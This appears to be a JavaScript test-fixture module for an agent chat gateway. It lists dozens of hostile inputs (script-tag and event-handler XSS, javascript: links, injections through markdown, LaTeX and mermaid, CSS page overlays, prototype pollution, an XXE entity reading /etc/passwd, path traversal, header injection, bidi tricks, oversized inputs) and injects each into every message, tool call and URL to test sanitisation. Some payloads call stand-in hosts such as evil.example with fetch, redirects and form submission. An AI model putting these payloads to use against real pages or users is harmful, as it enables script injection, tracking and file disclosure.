// Hostile texts, and a plugin that puts them into every text, name and URL of every part.

import { maker, serve } from "./plugin.mjs";

const hack = (n) => `window.hacked=${n}`;

/**
 * Texts that an agent, a tool or a stranger might send. None may run a script, load or submit anything, open a window, or cover or
 * widen the page.
 */
export const strange = [
  `<script>${hack(1)}</script>`,
  `<img src=x onerror="${hack(2)}">`,
  `<img src="https://tracker.example/pixel.png">`,
  `<svg onload="${hack(3)}"><script>${hack(4)}</script></svg>`,
  `<svg><animate onbegin=${hack(5)} attributeName=x dur=1s></svg>`,
  `<iframe srcdoc="<script>parent.hacked=6</script>"></iframe>`,
  `<object data="javascript:${hack(7)}"></object><embed src="javascript:${hack(7)}">`,
  `<a href="javascript:${hack(8)}" onclick="${hack(8)}">click</a>`,
  `<form action=https://evil.example><input name=a autofocus onfocus=${hack(9)}><button>Go</button></form>`,
  `<style>body{display:none}*{background:url(https://evil.example/x)}</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hack(10)}&gt;">`,
  `<details open ontoggle="${hack(11)}">x</details><video onloadstart=${hack(11)} src=x autoplay></video>`,
  `[click](javascript:${hack(12)}) ![x](javascript:${hack(12)})`,
  `[click](JaVaScRiPt:${hack(13)}) [click](java\tscript:${hack(13)}) [click](\u0001javascript:${hack(13)})`,
  `[click](&#106;avascript:${hack(14)}) [click](javascript&colon;${hack(14)}) <javascript:${hack(14)}>`,
  `[data](data:text/html,<script>${hack(15)}</script>) ![svg](data:image/svg+xml,<svg onload=${hack(15)}>)`,
  `![remote](https://tracker.example/pixel.png) ![remote](//tracker.example/p.png) ![remote](/\\tracker.example/p.png)`,
  `[a](vbscript:x) [b](file:///etc/passwd) [c](//evil.example/x) [d](blob:https://evil.example/1) [e](intent://x)`,
  `[ref]: javascript:${hack(16)}\n[ref] ![ref]`,
  `[a](https://example.com "x\\" onmouseover=${hack(17)} y=\\"")`,
  `https://user:pass@evil.example/\u202egpj.exe www.evil.example mailto:a@b.example?subject=x`,
  `evil\u202egpj.exe and \`\u202egpj.exe\` \u2066isolated\u2069 \u200f\u061c`,
  `zero\u200bwidth\u2060join\ufeffbom\u00adshy \u0000\u0007\u001b[31mred\u001b]8;;javascript:${hack(18)}\u0007link\u001b]8;;\u0007`,
  `Z\u0300\u0301\u0302\u0303${"\u0336\u0337\u0315\u0321".repeat(200)}algo`,
  `\`\`\`html\n<script>${hack(19)}</script>`,
  `\`\`\`${"x".repeat(5000)}\nfence with a long name\n\`\`\``,
  `~~~\n\`\`\`\nunclosed in unclosed ${"`".repeat(99)}`,
  `| ${"c | ".repeat(300)}\n| ${"- | ".repeat(300)}\n| ${"x | ".repeat(300)}`,
  `| a |\n|---|\n${"| row |\n".repeat(2000)}`,
  `${"> ".repeat(200)}deep`,
  `${"- ".repeat(200)}deep`,
  `${"*".repeat(2000)}a${"*".repeat(2000)} ${"[".repeat(3000)} ${"_a ".repeat(1000)}`,
  `${"[".repeat(500)}x${"](y)".repeat(500)}`,
  "w".repeat(20_000),
  `${"\u{1F468}\u200D\u{1F469}\u200D\u{1F467}".repeat(2000)}`,
  `${"line\n".repeat(3000)}`,
  `{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":2}},"command":"<b>${hack(20)}</b>"}`,
  `${'{"a":'.repeat(300)}1`,
  `"${"\\".repeat(999)}`,
  `\u{E0041}\u{E0042} tags, \uFFF9anchor\uFFFAhidden\uFFFB, \u2028line\u2029paragraph\u0085next`,
  `"><img src=x onerror=${hack(21)}> ' onmouseover='${hack(21)}' \${${hack(21)}} {{constructor.constructor('${hack(21)}')()}}`,
  `]]><script>${hack(22)}</script><!--#exec cmd="x"--> <?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`,
  `$$\\href{javascript:${hack(23)}}{x}$$ \\unicode{x202e} <math href="javascript:${hack(23)}">x</math>`,
  `[^1] text\n\n[^1]: javascript:${hack(24)}\n\n<!-- never closed <script>${hack(24)}</script>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">cover</div><dialog open>x</dialog><div popover=manual>x</div>`,
  `%00%0d%0aSet-Cookie:x=1 ../../../../etc/passwd ..\\..\\win.ini C:\\con file.txt\u0000.png .htaccess`,
  `$\\href{javascript:${hack(60)}}{click}$ \\(\\includegraphics{https://evil.example/x.png}\\) $\\htmlStyle{position:fixed}{x}$ $\\rule{9999em}{9999em}$\n\n$$\\def\\a{\\a\\a}\\a$$`,
  `\`\`\`mermaid\nflowchart LR\n  A["<img src=x onerror=${hack(61)}>"] --> B\n  click A href "javascript:${hack(61)}"\n  click B call alert()\n\`\`\``,
  `<!doctype html><title>x</title><script>for (const f of [() => parent.hacked=62, () => top.location="https://evil.example/", () => open("https://evil.example/"), () => fetch("https://evil.example/")]) try { f() } catch {}</script><form action=https://evil.example><button autofocus>x</button></form>`,
  `مرحبا بالعالم ${"שלום ".repeat(200)} mixed <b dir=rtl>LTR</b>`,
];

/** Returns the first n characters of a text, without splitting one. */
export const clip = (text, n) => [...text].slice(0, n).join("");
const id = (text) => Buffer.from(clip(text, 200).replace(/[\u0000-\u001f\u007f]/g, "")).subarray(0, 200).toString("utf8").replace(/\ufffd/g, "");

/** Returns URLs that contain a text: the text itself, a path, a file of the gateway, data. */
const urls = (s) => [s, `javascript:${s}`, `data:text/html,${s}`, `data:image/svg+xml,${s}`, `//evil.example/${encodeURIComponent(s)}`, `/api/conversations/x/files/${s}`];

async function everywhere(turn) {
  const s = strange[Number(turn.rest)];
  const short = clip(s, 2000);
  turn.text("m", "r", s, "reasoning");
  turn.text("m", "x", s);
  turn.tool("m", "t1", short, { input: { [clip(s, 300)]: s, command: s }, output: s, stderr: s, state: "failed", error: short });
  turn.tool("m", "t2", "bash", { input: s, output: s, title: short, data: { exitCode: s } });
  turn.start("m", "s", "status");
  for (const note of ["first", short, `${short} again`]) turn.replace("m", "s", note, { note });
  turn.close("m", "s");
  for (const [i, url] of urls(short).entries()) {
    const mime = ["image/png", "image/svg+xml", "audio/wav", "video/mp4", "text/html", clip(s, 100)][i];
    if (/^data:/.test(url)) continue; // the gateway stores or refuses data URLs by their bytes
    turn.media("m", `f${i}`, { url, mime, name: short, alt: short, size: 5 });
  }
  turn.media("m", "broken", { name: short });
  turn.set("m", "broken", { error: { code: clip(s, 50), message: short } });
  turn.start("m", "d", "data", { name: short, title: short, data: { [clip(s, 100)]: s } });
  turn.close("m", "d");
  turn.done("m");
  const name = id(s) || "inner";
  const emit = turn.inner("inner");
  emit({ type: "turn.start", agent: name, parent: turn.turn });
  emit({ type: "turn.update", phase: clip(s, 100), model: clip(s, 100) });
  maker(emit).text("n", "x", s);
  emit({ type: "message.end", message: "n" });
  emit({ type: "turn.end", outcome: "failed", reason: clip(s, 100), error: { code: clip(s, 100), message: short } });
  turn.emit({ type: "turn.update", phase: clip(s, 100) });
  turn.emit({ type: "turn.wait", request: { id: "q", kind: "approval", tool: clip(s, 500), prompt: s, options: [clip(s, 200) || "x"], data: { [clip(s, 100)]: s } } });
  await turn.answer();
  turn.end({ outcome: "failed", reason: clip(s, 100), error: { code: clip(s, 100), message: short }, usage: { model: clip(s, 100), input: 1, output: 1 } });
}

if (process.argv[1]?.endsWith("attacks.mjs")) serve({ everywhere });
